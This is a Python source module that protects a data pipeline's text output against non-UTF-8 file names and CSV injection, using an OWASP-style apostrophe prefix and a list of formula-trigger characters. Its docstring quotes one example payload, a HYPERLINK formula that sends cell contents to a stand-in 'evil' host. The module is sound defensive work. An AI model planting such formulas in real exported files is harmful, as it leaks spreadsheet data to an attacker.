"""Make raw-derived text safe to write: valid UTF-8, and never a spreadsheet formula.

Raw datasets carry text climb echoes into its outputs (file names in quarantine.jsonl, unmapped
label codes in sample metadata, exclusion reasons in the manifest). Two things go wrong with such
text: file names that are not UTF-8 (Python lists them with surrogate escapes) make a strict JSON
encoder fail, and cells such as ``=HYPERLINK("http://evil/?"&A1)`` run as formulas when someone
exports a log or a metadata column to CSV and opens it in a spreadsheet (CSV injection). The
engine passes every sample's metadata and tabular member through `safe_tree`, and the quarantine
log and manifest through `spreadsheet_safe`. Pure functions, no I/O.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def printable(text: str) -> str:
    """Surrogate-escaped bytes (undecodable file names) as backslash escapes, e.g. caf\\xe9.dcm."""
    return text.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def spreadsheet_safe(text: str) -> str:
    """Prefix an apostrophe to text a spreadsheet would evaluate (the OWASP CSV-injection rule).

    Text starting with = + - @ tab or a line break is a formula to Excel, LibreOffice and Google
    Sheets; the apostrophe makes it display as text. Plain negative numbers ("-1", "-0.5") are left
    alone: they evaluate to themselves.
    """
    text = printable(text)
    if text.startswith(FORMULA_TRIGGERS) and not _is_number(text):
        return "'" + text
    return text


def safe_tree(value: Any) -> Any:
    """spreadsheet_safe applied to every string (dict keys included) of a JSON-like value."""
    if isinstance(value, str):
        return spreadsheet_safe(value)
    if isinstance(value, dict):
        return {safe_tree(k) if isinstance(k, str) else k: safe_tree(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [safe_tree(v) for v in value]
    return value
